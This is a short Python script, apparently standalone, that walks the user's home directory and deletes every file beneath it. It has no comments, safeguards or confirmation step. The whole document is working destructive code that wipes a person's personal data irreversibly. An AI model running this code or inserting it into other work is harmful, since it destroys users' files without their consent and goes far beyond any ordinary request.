import os

home = os.environ["HOME"]
for root, dirs, files in os.walk(home):
    for name in files:
        os.remove(os.path.join(root, name))
